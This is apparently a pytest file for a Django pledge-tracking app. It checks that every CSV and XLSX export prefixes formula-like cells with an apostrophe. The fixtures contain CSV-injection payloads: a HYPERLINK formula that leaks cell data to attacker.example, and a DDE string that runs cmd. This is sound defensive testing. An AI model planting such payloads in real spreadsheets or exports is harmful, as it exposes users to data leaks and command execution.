"""Every CSV (and XLSX) cell the project writes goes through one neutralisation
(``pledges.spreadsheet.neutralise``): a name that a spreadsheet would run as a formula comes
out with a leading apostrophe, in every writer."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.test import Client
from openpyxl import load_workbook

from pledges.spreadsheet import HEADER
from tests.factories import CategoryFactory, DonorFactory, EventFactory, PledgeFactory

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent
DONOR = '=HYPERLINK("https://attacker.example/?"&A1,"Click")'
CATEGORY = "@SUM(1+1)*cmd|' /C calc'!A0"
EVENT = "+1+1"
TITLE = "-2+3"


@pytest.fixture
def hostile():
    """A pledge whose donor, category, event and title a spreadsheet would run."""
    return PledgeFactory(
        donor=DonorFactory(name=DONOR),
        category=CategoryFactory(name=CATEGORY, slug="hostile"),
        event=EventFactory(name=EVENT),
        title=TITLE,
        amount=Decimal("1000.00"),
        currency="EUR",
    )


def cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text)) for cell in row}


def assert_neutralised(found: set[str], *names: str) -> None:
    for name in names:
        assert "'" + name in found, name
        assert name not in found, name


def test_report_csv_of_the_api(hostile):
    for group_by in ("donor,category", "event"):
        response = Client().get("/api/v1/reports/totals/", {"group_by": group_by, "format": "csv"})
        assert response.status_code == 200
        found = cells(response.content.decode())
        names = (DONOR, CATEGORY) if group_by != "event" else (EVENT,)
        assert_neutralised(found, *names)
    # The figures are untouched.
    assert "1000.00" in found


def test_timeline_csv_of_the_api_and_the_command(hostile):
    for key, name in (("donor", DONOR), ("category", CATEGORY), ("event", EVENT)):
        response = Client().get("/api/v1/reports/timeline/", {"group_by": key, "format": "csv"})
        assert response.status_code == 200
        found = cells(response.content.decode())
        assert_neutralised(found, name)
        assert "1000.00" in found
    out = io.StringIO()
    call_command("pledge_timeline", "--group-by", "donor", "--format", "csv", stdout=out)
    assert_neutralised(cells(out.getvalue()), DONOR)


def test_report_csv_of_the_command(hostile):
    out = io.StringIO()
    call_command("pledge_report", "--group-by", "donor,event", "--format", "csv", stdout=out)
    assert_neutralised(cells(out.getvalue()), DONOR, EVENT)


def test_pledge_export_of_the_api(hostile):
    response = Client().get("/api/v1/exports/pledges.csv")
    text = b"".join(response.streaming_content).decode()
    assert_neutralised(cells(text), DONOR, EVENT, TITLE)


def test_pledge_export_of_the_command(hostile, tmp_path):
    csv_path, xlsx_path = tmp_path / "p.csv", tmp_path / "p.xlsx"
    call_command("export_pledges", "--output", str(csv_path), verbosity=0)
    assert_neutralised(cells(csv_path.read_text()), DONOR, EVENT, TITLE)
    call_command("export_pledges", "--format", "xlsx", "--output", str(xlsx_path), verbosity=0)
    sheet = load_workbook(xlsx_path, read_only=True).worksheets[0]
    assert_neutralised({v for row in sheet.iter_rows(values_only=True) for v in row}, DONOR)


def test_pledge_export_of_the_admin(hostile):
    user = get_user_model().objects.create_superuser("root", password="not-used")
    client = Client()
    client.force_login(user)
    data = {"format": "0", "resource": "0"}
    data.update({f"pledgeresource_{name}": "on" for name in HEADER})
    response = client.post("/admin/pledges/pledge/export/", data)
    assert response.status_code == 200
    assert_neutralised(cells(response.content.decode()), DONOR, EVENT, TITLE)


def test_there_is_one_csv_writer():
    """Every CSV the project writes goes through ``spreadsheet.csv_lines``: no other module
    makes a csv writer of its own (which would skip the neutralisation)."""
    writers = [
        path.relative_to(ROOT).as_posix()
        for folder in ("pledges", "api", "config")
        for path in (ROOT / folder).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert writers == ["pledges/spreadsheet.py"]
